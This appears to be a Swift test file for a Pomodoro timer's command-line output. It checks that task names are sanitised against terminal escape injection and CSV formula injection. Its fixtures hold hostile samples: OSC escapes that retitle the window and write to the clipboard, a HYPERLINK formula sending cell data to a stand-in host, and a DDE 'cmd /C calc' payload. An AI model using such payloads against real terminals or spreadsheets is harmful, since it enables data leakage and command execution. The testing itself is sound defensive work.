import Foundation
import PomodoroCore
import PomodoroLive
import Testing

/// Finding 5 of issue 39: task names carried terminal escapes (a pane title, an OSC 52 write to
/// the clipboard) into `stats`, `history`, `history --csv` and `status`, and CSV kept
/// `=HYPERLINK(…)` formulas live. Control characters are now stripped when a task is typed or
/// given, and escaped wherever a stored one is printed; CSV cells that a spreadsheet would
/// read as a formula are neutralised, as OWASP advises.
struct TaskNameEscapingTests {
  /// OSC 0 (the window title) and OSC 52 (the clipboard), as in the probe.
  static let hostile = "Report\u{1B}]0;owned\u{07}\u{1B}]52;c;ZWNobyBwd25lZA==\u{07}\u{9B}2J"
  static let escaped =
    #"Report\u{1B}]0;owned\u{7}\u{1B}]52;c;ZWNobyBwd25lZA==\u{7}\u{9B}2J"#

  let start = Date(timeIntervalSince1970: 1_795_000_000)
  var calendar: Calendar {
    var calendar = Calendar(identifier: .gregorian)
    calendar.timeZone = TimeZone(identifier: "UTC")!
    return calendar
  }

  func session(task: String) -> SessionRecord {
    SessionRecord(
      id: UUID(uuidString: "00000000-0000-0000-0000-000000000001")!, kind: .focus,
      outcome: .finished, startDate: start, endDate: start.addingTimeInterval(1500),
      plannedSeconds: 1500, actualSeconds: 1500, task: task)
  }

  @Test func controlCharactersAreStrippedFromATaskOnInput() {
    // `--task` goes through the same rule as the in-app editor.
    #expect(TaskEditor.normalized(Self.hostile) == "Report]0;owned]52;c;ZWNobyBwd25lZA==2J")
    #expect(TaskEditor.normalized("Line\nbreak\u{2028}here") == "Linebreakhere")
  }

  @Test func historyTextAndCSVEscapeControlCharacters() {
    let export = HistoryExport(sessions: [session(task: Self.hostile)], calendar: calendar)
    #expect(!export.text().contains("\u{1B}"))
    #expect(export.text().contains(Self.escaped))
    #expect(!export.csv().contains("\u{1B}"))
    #expect(!export.csv().unicodeScalars.contains("\u{9B}"))
    #expect(export.csv().contains(Self.escaped))
  }

  @Test(arguments: [
    (
      #"=HYPERLINK("http://x.example/?"&A1,"Click")"#,
      #""'=HYPERLINK(""http://x.example/?""&A1,""Click"")""#
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("Plain task", "Plain task"),
  ])
  func csvCellsThatLookLikeFormulasAreNeutralised(task: String, cell: String) {
    let export = HistoryExport(sessions: [session(task: task)], calendar: calendar)
    let row = export.csv().split(separator: "\n")[1]
    #expect(row.hasSuffix(",1500,1500," + cell))
  }

  @Test func statsTextEscapesControlCharacters() {
    let statistics = HistoryStatistics(
      sessions: [session(task: Self.hostile)], calendar: calendar,
      now: start.addingTimeInterval(3600))
    let text = StatsReport(statistics: statistics, calendar: calendar).text()
    #expect(!text.contains("\u{1B}"))
    #expect(text.contains(#"Report\u{1B}]0;owned"#))
  }

  @Test func statusLineEscapesControlCharacters() throws {
    var running = session(task: Self.hostile)
    running.outcome = .running
    running.endDate = nil
    let report = TimerStatusReport(
      session: running, appIsRunning: true, finishedToday: 0, dailyGoal: 8,
      now: start.addingTimeInterval(60))
    let line = try report.line(format: "{task}")
    #expect(line == Self.escaped)
  }

  /// `--json` of `history`, `stats` and `status`: JSONEncoder escapes C0 but leaves C1
  /// (U+009B is a CSI), DEL and the line separators raw, and they reached the terminal. Each
  /// is written as a `\uXXXX` escape, which decodes to the same task.
  @Test func jsonOutputEscapesEveryControlCharacter() throws {
    let task = "Report\u{9B}2J\u{7F}\u{2028}end"
    let statistics = HistoryStatistics(
      sessions: [session(task: task)], calendar: calendar, now: start.addingTimeInterval(3600))
    var running = session(task: task)
    running.outcome = .running
    running.endDate = nil
    let outputs = [
      try HistoryExport(sessions: [session(task: task)], calendar: calendar).json(),
      try StatsReport(statistics: statistics, calendar: calendar, sessions: [session(task: task)])
        .json(),
      try TimerStatusReport(
        session: running, appIsRunning: true, finishedToday: 0, dailyGoal: 8,
        now: start.addingTimeInterval(60)
      ).json(text: "t"),
    ]
    for json in outputs {
      #expect(!json.unicodeScalars.contains(where: { (0x7F...0x9F).contains($0.value) }), "\(json)")
      #expect(!json.unicodeScalars.contains("\u{2028}"))
      #expect(json.contains(#"Report\u009b2J\u007f\u2028end"#), "\(json)")
      // Still JSON, with the task as it was.
      let decoded = try JSONSerialization.jsonObject(with: Data(json.utf8))
      #expect("\(decoded)".contains("Report"))
    }
  }
}
